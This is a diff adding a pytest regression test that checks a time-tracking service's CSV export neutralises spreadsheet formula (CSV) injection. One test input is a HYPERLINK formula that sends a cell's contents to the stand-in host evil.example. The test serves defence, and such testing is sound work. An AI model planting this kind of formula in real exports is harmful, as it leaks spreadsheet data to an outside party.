@@ -16,7 +16,7 @@ import httpx
 import pytest
 
 from services.scheduler.domain import DAILY_SUMMARIES, IDLE_CHECK, OVERTIME_CHECK
-from tests.scheduler.conftest import Rig, World
+from tests.scheduler.conftest import Event, Rig, World
 from tests.scheduler.test_daily_summaries import busy_day
 from tests.support import Mesh, start_mesh
 
@@ -272,3 +272,28 @@ async def test_bad_alert_settings_are_400_naming_the_field_and_change_nothing(
     assert r.json()["message"].startswith(f"{field}:"), r.json()
     kept = (await http.get("/alerts/settings", headers=admin.headers)).json()
     assert (kept["idle_minutes"], kept["overtime_hours"]) == (5, 9.0)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+async def test_export_cells_never_start_a_formula(rig: Rig, world: World, http: httpx.AsyncClient, start: str) -> None:
+    """Issue 10: an employee's app name must not run in the manager's spreadsheet (OWASP
+    CSV injection): every text cell starting like a formula is prefixed with an apostrophe."""
+    org = await world.organization()
+    manager = await world.user(org, role="manager")
+    worker = await world.user(org)
+    day = date(2026, 10, 20)
+    app = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    moment = datetime(2026, 10, 20, 10, tzinfo=UTC)
+    session = await world.session(worker, moment, moment + timedelta(hours=1))
+    await world.events(session, [Event(moment + timedelta(minutes=1), "active", 600, app)])
+    await rig.runner().run(DAILY_SUMMARIES, datetime(2026, 10, 21, 1, tzinfo=UTC), manual=True)
+    r = await http.get(
+        "/reports/export.csv",
+        params={"startDate": day.isoformat(), "endDate": day.isoformat()},
+        headers=manager.headers,
+    )
+    assert r.status_code == 200, r.text
+    (row,) = [row for row in csv.DictReader(io.StringIO(r.text, newline="")) if row["user_id"] == worker.id]
+    assert row["top_apps"] == f"'{app}=600"
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
